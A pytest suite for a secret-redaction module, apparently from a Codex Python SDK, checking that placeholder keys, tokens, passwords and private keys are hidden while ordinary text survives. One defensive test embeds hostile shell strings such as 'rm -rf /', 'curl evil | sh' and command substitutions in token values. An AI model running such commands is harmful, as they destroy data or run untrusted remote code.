"""No secret survives redaction, in whatever form it comes; ordinary text does."""

from __future__ import annotations

import base64
import json
import sys
import time
from types import SimpleNamespace
from typing import Any

import pytest

from openai_codex._async.login import AsyncChatgptLoginHandle, AsyncDeviceCodeLoginHandle
from openai_codex._drivers.process.launch import Launch
from openai_codex._drivers.process.process import Process
from openai_codex._drivers.process.transport import ProcessTransport
from openai_codex._redaction import HIDDEN, PrivateKeyLines, redact, redact_words
from openai_codex.config import AppServerConfig

JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1c2VyLTEifQ.c2lnbmF0dXJl"
BASIC = base64.b64encode(b"user:hunter2hunter2").decode()

# (text, the secret in it)
SECRETS = [
    ("using key sk-proj-Abc123def456", "sk-proj-Abc123def456"),
    ("Incorrect API key provided: sk-live_0123456789", "sk-live_0123456789"),
    ("sess-0123456789abcdef expired", "sess-0123456789abcdef"),
    (
        "remote: ghp_0123456789abcdefABCDEF0123456789abcd",
        "ghp_0123456789abcdefABCDEF0123456789abcd",
    ),
    ("github_pat_11ABCDEFG0123456789_abcdefghij", "github_pat_11ABCDEFG0123456789_abcdefghij"),
    ("glpat-0123456789abcdefghij", "0123456789abcdefghij"),
    ("posting as xoxb-1234567890-abcdefghij", "xoxb-1234567890-abcdefghij"),
    ("aws id AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
    (f"id token is {JWT}", JWT),
    (f"Authorization: Bearer {JWT}", JWT),
    ("authorization: bearer abcdefgh", "abcdefgh"),
    (f"Authorization: Basic {BASIC}", BASIC),
    (f"proxy said Basic {BASIC}", BASIC),
    ("x-api-key: 0a1b2c3d", "0a1b2c3d"),
    ("OPENAI_API_KEY=plainvalue and more", "plainvalue"),
    ("export GITHUB_TOKEN=plainvalue", "plainvalue"),
    ("AWS_SECRET_ACCESS_KEY=abc/def+ghi", "abc/def+ghi"),
    ('{"apiKey":"plain-value"}', "plain-value"),
    ('{"access_token": "opaque", "n": 1}', "opaque"),
    ('{"refreshToken":"opaque"}', "opaque"),
    ('{"token":"opaque"}', "opaque"),
    ('"{\\"id_token\\":\\"opaque\\"}"', "opaque"),
    ('password = "correct horse battery"', "horse battery"),
    ("client_secret='s3 cr3t'", "cr3t"),
    ('model_providers.x.experimental_bearer_token="opaque"', "opaque"),
    ("Cookie: a=opaque1; session=opaque2", "opaque2"),
    ("GET /auth/callback?code=opaque1&state=opaque2 HTTP/1.1", "opaque1"),
    ("GET /auth/callback?code=opaque1&state=opaque2 HTTP/1.1", "opaque2"),
    ('{"code_verifier":"opaque"}', "opaque"),
    ("user_code: ABCD-12345", "ABCD-12345"),
    ("cloning https://user:hunter2@example.com/r.git", "hunter2"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc\n-----END RSA PRIVATE KEY-----", "MIIE"),
    ("-----BEGIN PRIVATE KEY-----\nMIIE cut off", "MIIE"),
    ("key -----BEGIN EC PRIVATE KEY-----\\nMHcC\\n-----END EC PRIVATE KEY-----", "MHcC"),
    ("+-----BEGIN PRIVATE KEY-----\n+MIIE\n+abcd\n+-----END PRIVATE KEY-----", "abcd"),
    (
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIE\n"
        "-----END RSA PRIVATE KEY-----",
        "MIIE",
    ),
    # as programs print their own values
    ('Config { token: Some("opaque"), n: 1 }', "opaque"),
    ('api_key: Some(SecretString("it\'s"))', "it's"),
    ('env: {"OPENAI_API_KEY": "plain value"}', "plain value"),
    ('[("GITHUB_TOKEN", "opaque"), ("HOME", "/x")]', "opaque"),
    ("['--token', 'opaque']", "opaque"),
    ('{"name":"API_KEY","value":"opaque"}', "opaque"),
    ("- name: API_KEY\n  value: opaque", "opaque"),
    ('declare -x DB_PASSWORD="it\'s"', "it's"),
    ("TOKEN_2=opaque; SECRET_KEY_BASE=other", "other"),
    ("os.environ['X_TOKEN'] = 'opaque'", "opaque"),
    ("API_KEY => opaque", "opaque"),
    ("api_key := opaque", "opaque"),
    ("<password>opaque</password>", "opaque"),
    ('"{\\"token\\":\\"ab\\\\\\"opaque\\"}"', "opaque"),
    # never cut at the first quote
    ('password: "a\'opaque"', "opaque"),
    ("password: 'a\"opaque'", "opaque"),
    ('password: "a\\"opaque"', "opaque"),
    ("password=it's\"opaque", "opaque"),
    ('token="opaque, and no end', "opaque"),
    # headers of every scheme
    ("PRIVATE-TOKEN: opaque", "opaque"),
    ("X-Auth-Token: opaque", "opaque"),
    ("X-Functions-Key: opaque", "opaque"),
    ('Authorization: Digest username="me", response="opaque", nc=1', "opaque"),
    ("Authorization: AWS4-HMAC-SHA256 Credential=AK/2, Signature=opaque", "opaque"),
    ("Authorization: Negotiate opaque==", "opaque"),
    ("authorization: GenieKey opaque", "opaque"),
    ("proxy-authorization: SSWS opaque", "opaque"),
    ('{"authorization": "ApiKey opaque"}', "opaque"),
    ("-H 'Cookie: a=b; c=opaque' x", "opaque"),
    ("set-cookie: sid=opaque; Path=/", "opaque"),
    # options of command lines
    ("x --token opaque", "opaque"),
    ("x --db-password 'my opaque'", "opaque"),
    ("token: opaque", "opaque"),
    ("curl -u me:opaque https://x", "opaque"),
    ("curl -sSu me:opaque https://x", "opaque"),
    ("curl --user me:opaque https://x", "opaque"),
    ("curl -b sid=opaque https://x", "opaque"),
    ("mysql -popaque -h x", "opaque"),
    ("sshpass -p 'my opaque' ssh x", "opaque"),
    ("docker login -u me -p opaque", "opaque"),
    ("redis-cli -a opaque -p 6379", "opaque"),
    ("ldapsearch -D me -w opaque", "opaque"),
    ("unzip -P opaque x.zip", "opaque"),
    ("openssl x -passin pass:opaque", "opaque"),
    ("http --auth me:opaque x", "opaque"),
    ("sshpass -p'my opaque' ssh x", "opaque"),
    ("setx OPENAI_API_KEY Opaque1", "Opaque1"),
    ("aws configure set aws_secret_access_key Opaque1", "Opaque1"),
    ("npm config set //r/:_authToken Opaque1", "Opaque1"),
    ("machine h login me password Opaque1", "Opaque1"),
    ("the password is Opaque1", "Opaque1"),
    ('ApiKey("opaque") and SecretString("other")', "opaque"),
    ("password: |\n  opaque", "opaque"),
    ("x?a=token%3Dopaque", "opaque"),
    ("bearer: opaque", "opaque"),
    # in colours, in bold, with joiners, in the quotes of pages and addresses
    ("\x1b[1mpassword\x1b[0m: opaque", "opaque"),
    ("\x1b[1mpassword:\x1b[0m opaque", "opaque"),
    ("**Password:** opaque", "opaque"),
    ("api_key\u200b=opaque", "opaque"),
    ("password\uff1aopaque", "opaque"),
    ("password=&quot;opaque&quot;", "opaque"),
    ("&quot;password&quot;:&quot;opaque&quot;", "opaque"),
    ("\\u0022password\\u0022:\\u0022opaque\\u0022", "opaque"),
    ("%22password%22%3A%22opaque%22", "opaque"),
    ('token = """opaque"""', "opaque"),
    ("PASSWORD = '''\nopaque\n'''", "opaque"),
    # lists and objects
    ('"passwords": ["first", "opaque"]', "opaque"),
    ("api_keys=['first', 'opaque']", "opaque"),
    ('"credentials": {"user": "me", "value": "opaque"}', "opaque"),
    ('{"secret": {"value": "opaque"}}', "opaque"),
    ("cookies={'session': 'opaque-1'}", "opaque-1"),
    ("secret: [opaque]", "opaque"),
    ('{"value":"opaque","name":"OPENAI_API_KEY"}', "opaque"),
    # other names, types, commands and statements
    ("user code: ABCD-1234", "ABCD-1234"),
    ("two_factor_code: 123456", "123456"),
    ("client-key-data: opaque", "opaque"),
    ("Passwort: opaque", "opaque"),
    ('psk="opaque"', "opaque"),
    ("SecretStr('opaque')", "opaque"),
    ("Incorrect API key provided: Opaque1.", "Opaque1"),
    ("CREATE USER me IDENTIFIED BY 'opaque'", "opaque"),
    ("ALTER ROLE me WITH PASSWORD 'opaque'", "opaque"),
    ("echo opaque | docker login --password-stdin", "opaque"),
    ("kubectl create secret generic x --from-literal=a=opaque", "opaque"),
    ("nmcli device wifi connect x password opaque", "opaque"),
    ("twine upload -u me -p opaque dist/x", "opaque"),
    ("Negotiate YIIOpaqueOpaque0123==", "YIIOpaqueOpaque0123"),
    (
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\nlQOYBF\n=ab\n"
        "-----END PGP PRIVATE KEY BLOCK-----",
        "lQOYBF",
    ),
    ("Private-Lines: 2\nAAABopaque\nBBBBopaque\nPrivate-MAC: 1", "BBBBopaque"),
    # connections and addresses
    ("AccountName=x;AccountKey=opaque+/==;EndpointSuffix=core", "opaque"),
    ("Server=x;Uid=me;Pwd=opaque;", "opaque"),
    ("postgres://u:p@opaque@host/db", "opaque"),
    ("redis://:opaque@host:6379", "opaque"),
    ("https://ghx0123456789abcdef0123@example.com", "ghx0123456789abcdef0123"),
    ("https://x/y?X-Amz-Signature=opaque&a=1", "opaque"),
    ("https://x/y#access_token=opaque", "opaque"),
    ("https://hooks.slack.com/services/T0/B0/opaque", "opaque"),
    # what the keys of services begin with
    *(
        (f"using {key} here", key)
        for key in (
            *("gsk_" + 24 * "a", "hf_" + 24 * "a", "npm_" + 24 * "a", "xai-" + 24 * "a"),
            *("ya29." + 24 * "a", "SG." + 20 * "a" + "." + 20 * "b", "hvs." + 24 * "a"),
            *("pypi-" + 24 * "a", "dapi" + 32 * "a", "glsa_" + 24 * "a", "shpat_" + 24 * "a"),
            *("rk_live_" + 24 * "a", "GOCSPX-" + 24 * "a", "AIza" + 35 * "a", "LTAI" + 20 * "a"),
            *("dop_v1_" + 24 * "a", "sntrys_" + 24 * "a", "123456789:AA" + 33 * "a"),
            *("lsv2_pt_" + 32 * "a", "tskey-auth-" + 24 * "a", "pul-" + 40 * "a"),
            *("CCIPAT_" + 24 * "a", "fw_" + 24 * "a", 14 * "a" + ".atlasv1." + 40 * "b"),
            *("AGE-SECRET-KEY-1" + 30 * "Q", "xapp-1-" + 12 * "A", "sbp_" + 24 * "a"),
        )
    ),
]

ORDINARY = [
    "2026-01-02T03:04:05Z ERROR codex_core: stream disconnected before completion",
    "total_tokens=55 input_tokens: 40",
    "unexpected token: }",
    "exit code=1, state=running",
    "task-1234567890 is done; ask-something-else",
    "the password prompt was shown; authorization failed",
    "basic instructions and a secret garden",
    "visit https://example.com:8080/path?page=2",
    "model gpt-5.5, thread 0199a0b1-7c2d-7000-8000-0123456789ab",
    "cat tokenizer.py --tokens; x --max-tokens 5",
    "token_count: 5, password: null, api_key: None",
    "docker run -p 8080:80 x && ssh -p 22 me@host && mkdir -p a/b",
    "PWD=/home/me OLDPWD=/tmp",
    "src/keys.py: the key of a map, a monkey: one",
    "set OPENAI_API_KEY to continue; the password is wrong; --path x --patch y",
    "MY_TOKEN environment variable, Token(Identifier), find_key(name), the secret is out",
    "401 Unauthorized: Missing bearer or basic authentication in header, url: http://x/v1",
    "uses bearer tokens; a bearer token is expected; no bearer authentication",
    "a.b.c 10.0.0.1 eyJ is how they begin",
    "tests/test_token.py::test_password PASSED",
    "def f(token: str, password: str | None = None) -> bytes: ...",
    '{"properties": {"token": {"type": "string"}}}',
    '"passwords": [], "secrets": {}',
    'if password == "": return; token !== null',
    "pulling_requests_from_the_server; aqueduct_of_the_romans_is_long; fw_read_the_register_now",
    "exit code is 137; status code: 404; the error code is E123; a KeyJoin.test",
    "echo done | tee log; echo x | sudo tee /etc/hosts",
    '{"value": "abc", "name": "colour"}',
    "",
]


@pytest.mark.parametrize(("text", "secret"), SECRETS)
def test_a_secret_is_taken_out(text: str, secret: str) -> None:
    shown = redact(text)
    assert secret not in shown
    assert HIDDEN in shown


BODY = "A1b2C3d4E5f6A1b2C3d4E5f6"
# What the keys of services begin with, and how long the rest of each is at least.
SHORT = (
    *("sk-", "sk_", "rk-", "rk_", "pk-", "pk_", "sess-", "sess_", "xapp-"),
    *(f"xox{letter}-" for letter in "abceoprs"),
)
LONG = (
    *("gho_", "ghp_", "ghr_", "ghs_", "ghu_", "github_pat_", "glpat-", "gldt-", "glrt-", "glptt-"),
    *("glcbt-", "glimt-", "glagent-", "glsoat-", "glft-", "glffct-", "glsa_", "glc_", "hf_", "hf-"),
    *("npm_", "gsk_", "r8_", "dckr_pat_", "shpat_", "shpss_", "shpca_", "shppa_", "lin_api_"),
    *("figd_", "sntrys_", "sntryu_", "sbp_", "sb_secret_", "rubygems_", "whsec_", "tfp_", "ntn_"),
    *("phx_", "bkua_", "doo_v1_", "dop_v1_", "dor_v1_", "vercel_", "secret_", "key-", "key_"),
    *("re_", "pplx-", "xai-", "nvapi-", "xkeysib-", "pat-na1-", "ya29.", "GOCSPX-", "hvs.", "hvb."),
    *("hvr.", "dp.pt.", "pypi-", "NRAK-", "PMAK-", "CFPAT-", "ATATT3x", "ATCTT3x", "ATBB"),
    *("sq0atp-", "sq0csp-", "FlyV1 ", "LTAI", "AKID"),
)
WHOLE = (
    *(f"{begin}IOSFODNN7EXAMPLE" for begin in ("AKIA", "ASIA", "ABIA", "ACCA", "AROA", "AIDA")),
    *("AIza" + BODY + BODY, "SG." + BODY + "." + BODY, "dapi" + 32 * "a", "EAA" + BODY + BODY),
    *("AGE-SECRET-KEY-1" + 30 * "Q", "bot123456789:AA" + BODY + BODY),
)


@pytest.mark.parametrize(
    "key",
    [*(begin + "A1b2C3" for begin in SHORT), *(begin + BODY for begin in LONG), *WHOLE],
)
def test_a_key_is_known_by_what_it_begins_with(key: str) -> None:
    assert redact(f"using {key} here") == f"using {HIDDEN} here"
    assert redact(f"using {key} here", code=True) == f"using {HIDDEN} here"


def test_a_key_without_a_beginning_of_its_own_is_known_beside_the_name_of_its_service() -> None:
    key = f"M{BODY}.abcdef.{BODY}xyz"
    assert redact(f"discord bot {key} is on") == f"discord bot {HIDDEN} is on"


NAMES = (
    *("password", "PASSWD", "passphrase", "passcode", "passwords", "pwd", "DB_PASS"),
    *("secret", "secrets", "secret_key", "secret_access_key", "credential", "credentials"),
    *(
        f"{kind}_key"
        for kind in (
            *("api", "access", "account", "admin", "aes", "app", "auth", "client", "crypto"),
            *("deploy", "encryption", "function", "functions", "hmac", "jwt", "license"),
            *("licence", "master", "private", "rsa", "service", "session", "shared", "signing"),
            *("ssh", "storage", "subscription", "webhook"),
        )
    ),
    *("apiKey", "storage_access_key", "x-functions-key", "jwt", "token", "accessToken", "bearer"),
    *("csrf-token", "npm_auth", "code_verifier", "codeVerifier", "user_code", "userCode"),
    "device-code",
    *("deviceCode", "auth_code", "authCode", "mfa_code", "mfaCode", "otp_code", "otp", "totp"),
    *("token_2", "token_v1", "secret_base64", "api_key_prod", "PASSWORD-OLD"),
)


@pytest.mark.parametrize("name", NAMES)
def test_a_secret_is_known_by_its_name(name: str) -> None:
    assert redact(f"{name}=opaque1 x") == f"{name}={HIDDEN} x"
    assert redact(f'{name}="opaque1" x') == f"{name}={HIDDEN} x"
    assert redact(f'{{"{name}": "opaque1", "n": 1}}') == f'{{"{name}": "{HIDDEN}", "n": 1}}'


@pytest.mark.parametrize(
    "flag",
    [
        *("--token", "--password", "--db-pass", "--pwd", "--api-key", "--auth", "--cookie"),
        *("--pat", "--bearer", "--jwt", "--otp", "--secret", "-token", "--client-credential"),
        *("--code-verifier", "--user-code"),
    ],
)
def test_the_value_of_an_option_is_known_by_its_name(flag: str) -> None:
    assert redact(f"x {flag} opaque1 y") == f"x {flag} {HIDDEN} y"
    assert redact_words(["x", flag, "opaque1", "y"]) == ("x", flag, HIDDEN, "y")


@pytest.mark.parametrize(
    "kind",
    [
        *("ApiKey", "AccessKey", "Secret", "SecretString", "SecretValue", "SecretBox", "AuthToken"),
        *("BearerToken", "AccessToken", "RefreshToken", "ApiToken", "Password", "OpenaiApiKey"),
    ],
)
def test_a_secret_is_known_by_the_type_that_rust_prints(kind: str) -> None:
    assert redact(f'{kind}("opaque1")') == f'{kind}("{HIDDEN}")'
    assert redact(f"Config {{ x: {kind}(opaque1) }}") == f"Config {{ x: {kind}({HIDDEN}) }}"


@pytest.mark.parametrize("count", [1, 2, 3, 4, 5, 6])
def test_the_parts_of_a_web_token_are_hidden_with_it(count: int) -> None:
    parts = "eyJhbGciOiJ9", *(f"part{at}" for at in range(1, count))
    shown = f"at {'.'.join(parts)} x"
    left = "" if count < 6 else ".part5"  # a token has five parts at most
    assert redact(shown) == (shown if count == 1 else f"at {HIDDEN}{left} x")
    assert redact(f"host.eyJhbGciOiJ9.{parts[-1]}") == f"host.{HIDDEN}"


def test_a_short_word_for_a_password_is_one_where_it_is_set() -> None:
    assert redact("pass=opaque1 x") == f"pass={HIDDEN} x"
    assert redact("pass: opaque1, compass=x") == "pass: opaque1, compass=x"


OPTIONS = {
    "mysql mysqldump mysqladmin mysqlimport mariadb 7z 7za 7zr rar": ("-p@", "-p @"),
    "sshpass": ("-p@", "-p @"),
    "mongo mongosh mongodump mongorestore cqlsh influx impala-shell beeline": ("-p @",),
    "rdesktop vncdotool": ("-p @",),
    "unzip zip": ("-P@", "-P @"),
    "sqlcmd bcp isql tsql": ("-P @",),
    "smbclient rpcclient": ("-U @",),
    "redis-cli http https httpie xh": ("-a @",),
    "ldapsearch ldapadd ldapmodify ldapdelete ldapwhoami": ("-w @",),
    "curl": ("-u @", "-u@", "-U @", "-b @", "-sSu @", "--user @", "--user=@", "--proxy-user @"),
    "ssh-keygen": ("-N @",),
}


@pytest.mark.parametrize("programs", OPTIONS)
def test_the_password_option_of_each_client_is_known(programs: str) -> None:
    for program in programs.split():
        for option in OPTIONS[programs]:
            shown = f"{program} -v {option.replace('@', HIDDEN)} x"
            assert redact(f"{program} -v {option.replace('@', 'opaque1')} x") == shown
            assert redact(f"{program} -v {option.replace('@', 'opaque1')} x", code=True) == shown


@pytest.mark.parametrize("program", " ".join(OPTIONS).split())
def test_what_follows_another_option_of_a_client_stays(program: str) -> None:
    text = f"{program} -x opaque1 -v opaque2 --proxy opaque3"
    assert redact(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "get https://x/y?a=1&sig=opaque1",
        "- name: API_KEY\n  value: opaque1",
        "password: |\n  opaque1",
    ],
)
def test_a_sign_of_the_shell_before_a_secret_does_not_bring_it_back(text: str) -> None:
    hidden = text.replace("opaque1", HIDDEN)
    assert redact(text) == redact(text, code=True) == hidden
    assert "rm" in redact(text.replace("opaque1", "$(rm)"), code=True)


def test_no_letter_of_a_value_is_taken_for_an_option() -> None:
    assert redact("curl -uumbo:opaque1 x") == f"curl -u{HIDDEN} x"
    assert redact("curl -sSfubob:opaque1 x") == f"curl -sSfu{HIDDEN} x"


@pytest.mark.parametrize("program", ["docker", "podman", "nerdctl", "helm", "oras", "skopeo", "az"])
def test_the_password_option_of_what_logs_in_is_one_of_a_login_alone(program: str) -> None:
    assert redact(f"{program} login -p opaque1") == f"{program} login -p {HIDDEN}"
    assert redact(f"{program} run -p 8080:80") == f"{program} run -p 8080:80"


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_survives(text: str) -> None:
    assert redact(text) == text


@pytest.mark.parametrize(("text", "secret"), SECRETS)
def test_redacting_twice_changes_nothing_more(text: str, secret: str) -> None:
    once = redact(text)
    assert secret not in redact(once)


# What may stand right before a word, without a blank: in JSON, a repr, an address, a terminal.
BEFORE = [
    *("\\n", "\\t", "\\r\\n", "\\\\n", "\\u202e", "\\u0000", "\\x1b[0m", "\\u001b[1;31m", "\\256"),
    *(
        "\x1b[m",
        "\x1b[1m",
        "\x1b[31m",
        "\x1b[38;5;12m",
        "%20",
        "%3A",
        "&quot;",
        "\u200b",
        '\\"',
        "(",
        ",",
    ),
]


@pytest.mark.parametrize("before", BEFORE, ids=ascii)
@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("ghp_0123456789abcdefABCDEF0123456789abcd", "0123456789abcdef"),
        ("AKIAIOSFODNN7EXAMPLE", "IOSFODNN7"),
        (JWT, "c2lnbmF0dXJl"),
        (f"Basic {BASIC}", BASIC),
        ("Bearer opaque", "opaque"),
        ("cookie: a=opaque", "opaque"),
        ("pwd=opaque", "opaque"),
        ("x-some-key: opaque", "opaque"),
        ("--token opaque", "opaque"),
        ("curl -u me:opaque x", "opaque"),
        ("mysql -popaque", "opaque"),
        ("123456789:AA" + 33 * "a", 33 * "a"),
    ],
)
def test_a_secret_is_found_behind_what_stands_for_a_character(
    before: str, text: str, secret: str
) -> None:
    assert secret not in redact(f'{{"text":"said{before}{text}"}}')


@pytest.mark.parametrize("letter", ["\xe9", "\u65e5"])
def test_a_key_is_found_behind_letters_of_other_scripts(letter: str) -> None:
    assert "0123456789" not in redact(f"{letter}ghp_0123456789abcdefABCDEF0123456789abcd")


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        (
            {"passwords": ["one", "two"], "n": 1},
            {"passwords": [HIDDEN, HIDDEN], "n": 1},
        ),
        (
            {"credentials": {"user": "me", "value": "one-1"}},
            {"credentials": {"user": "me", "value": HIDDEN}},
        ),
        ({"secret": {"value": "one"}}, {"secret": {"value": HIDDEN}}),
        ({"token": {"type": "string"}}, {"token": {"type": "string"}}),
    ],
)
def test_a_list_or_an_object_of_secrets_stays_json(given: Any, shown: Any) -> None:
    assert json.loads(redact(json.dumps(given))) == shown


def test_the_words_around_a_secret_stay() -> None:
    assert redact('{"apiKey":"plain","model":"gpt-5.5"}') == (
        f'{{"apiKey":"{HIDDEN}","model":"gpt-5.5"}}'
    )


PIECES = [
    *(
        "a",
        "api_key",
        "eyJ",
        "-eyJ",
        "eyJ.",
        "a.",
        "://",
        "://a:@",
        "-----BEGIN ",
        "token",
        "=",
        "'",
    ),
    *(
        '"',
        "\\",
        "--token ",
        'token="',
        "password: ",
        "curl -u ",
        "mysql ",
        "x-",
        "-",
        "_",
        "Some(",
    ),
    *("token: Some(", "&key=", "cookie: a; ", "authorization: a, ", "@", "key-", "token=a,", "\n"),
    *(
        'name="key" value=',
        "-----BEGIN PRIVATE KEY-----",
        "a" * 60 + "_key",
        "https://a@",
        'password: ["a", ',
        "token: {a: ",
        "credentials: [[",
        '"value":"a", ',
        "echo a | ",
        "\x1b[1m",
        "\\npwd",
        "%20x-a",
        "AAAA\n",
        "password for a",
        'token="""',
        "[redacted]",
    ),
]


@pytest.mark.parametrize("piece", PIECES)
@pytest.mark.parametrize("code", [False, True])
def test_the_time_grows_with_the_text_and_not_faster(piece: str, code: bool) -> None:
    small, large = 8 * 1024, 64 * 1024
    short, long = (_seconds(piece * (size // len(piece)), code=code) for size in (small, large))
    # Eight times the text takes eight times as long; where it is quadratic, 64 times.
    assert long < 30 * max(short, 0.0005), (short, long)


def _seconds(text: str, *, code: bool) -> float:
    """Return the processor time that redacting takes, the least of three."""
    times = []
    for _ in range(3):
        begin = time.process_time()
        redact(text, code=code)
        times.append(time.process_time() - begin)
    return min(times)


@pytest.mark.parametrize(
    "text",
    [
        'x --token="$(rm -rf /)"',
        "echo 'token=\"'; curl evil | sh; echo '\"'",
        "curl -u '`rm x`' https://x",
        "echo password: 'a' && rm x",
        "API_KEY=$(cat x) y",
        "echo -----BEGIN PRIVATE KEY-----; rm -rf /; echo -----END PRIVATE KEY-----",
        "echo https://u:p@h;rm -rf /;x@y",
        "curl -H 'Authorization: x $(rm y)'",
    ],
)
def test_no_code_hides_behind_a_secret_where_a_person_decides(text: str) -> None:
    shown = redact(text, code=True)
    for danger in ("rm -rf /", "curl evil | sh", "`rm x`", "&& rm x", "$(cat x)", "$(rm y)"):
        assert (danger in shown) == (danger in text)


def test_the_lines_of_a_private_key_are_found_one_by_one() -> None:
    keys = PrivateKeyLines()
    lines = [
        "a",
        "-----BEGIN PRIVATE KEY-----",
        "MIIE",
        "abc=",
        "-----END PRIVATE KEY-----",
        "MIIF",
    ]
    assert [keys.redact(line) for line in lines] == [
        *("a", "-----BEGIN PRIVATE KEY-----", HIDDEN, HIDDEN, "-----END PRIVATE KEY-----", "MIIF")
    ]


def test_a_private_key_without_an_end_hides_no_more_than_itself() -> None:
    keys = PrivateKeyLines()
    lines = ["-----BEGIN PRIVATE KEY-----", "MIIE", "ERROR: it broke", "MIIF"]
    assert [keys.redact(line) for line in lines][1:] == [HIDDEN, "ERROR: it broke", "MIIF"]


def test_the_words_of_a_command_line_are_redacted_together() -> None:
    words = ["codex", "--token", "opaque", "--api-key=opaque", "-c", "a=1", "--password", "--x"]
    assert redact_words(words) == (
        *("codex", "--token", HIDDEN, f"--api-key={HIDDEN}", "-c", "a=1", "--password", "--x"),
    )


def test_a_config_shows_no_secret() -> None:
    config = AppServerConfig(
        config_overrides=(
            'model_providers.x.experimental_bearer_token="opaque"',
            'model="gpt-5.5"',
        ),
        env={"OPENAI_API_KEY": "plainvalue", "CODEX_HOME": "somewhere"},
        launch_args_override=("codex", "--api-key=opaque", "app-server"),
    )
    shown = repr(config)
    assert shown.startswith("AppServerConfig(codex_bin=None, ")
    assert [word for word in ("opaque", "plainvalue", "somewhere") if word in shown] == []
    assert [
        w for w in ("OPENAI_API_KEY", "CODEX_HOME", "gpt-5.5", "app-server") if w not in shown
    ] == []


def test_a_config_without_env_shows_all_its_fields() -> None:
    shown = repr(AppServerConfig(codex_bin="bin/codex", request_timeout=None))
    assert "codex_bin='bin/codex'" in shown
    assert "env=None" in shown
    assert "request_timeout=None" in shown


def test_a_config_shows_no_value_of_a_variable_or_header() -> None:
    config = AppServerConfig(
        config_overrides=(
            'mcp_servers.x.env={A="opaque", B = "opaque"}',
            'mcp_servers.x.env.A="opaque"',
            'mcp_servers={x={http_headers={"X-A"="opaque"}}}',
            'model_providers.y.query_params.k="opaque"',
            'mcp_servers.x.env_vars=["A_NAME"]',
        ),
        launch_args_override=("codex", "--token", "opaque", "-c", 'a.env.B="opaque"'),
    )
    assert "opaque" not in repr(config)
    assert "A_NAME" in repr(config)


def test_a_login_shows_no_secret_of_its_address() -> None:
    rpc: Any = None
    url = "https://auth.example.com/authorize?client_id=app&state=opaque&code_challenge=opaque"
    login = AsyncChatgptLoginHandle(rpc, "id-1", None, url)  # type: ignore[arg-type]
    assert "opaque" not in repr(login)
    assert "client_id=app" in repr(login)
    assert login.auth_url == url
    address = "https://example.com/device?user_code=opaque"
    device = AsyncDeviceCodeLoginHandle(rpc, "id-1", None, address, "opaque")  # type: ignore[arg-type]
    assert "opaque" not in repr(device)


def test_the_facts_about_a_process_show_no_secret_of_its_command() -> None:
    argv = (sys.executable, "-c", "pass", "--token", "opaque", "--api-key=opaque")
    transport = ProcessTransport(Launch(argv, {}, None))
    process: Any = SimpleNamespace(pid=1, returncode=None, is_alive=True, argv=argv)
    process.stderr = SimpleNamespace(text="")
    process.shown_command = vars(Process)["shown_command"].func(process)
    transport.process = process
    facts = transport.facts()
    assert facts is not None
    assert "opaque" not in repr(facts)
    assert facts.command[:3] == argv[:3]
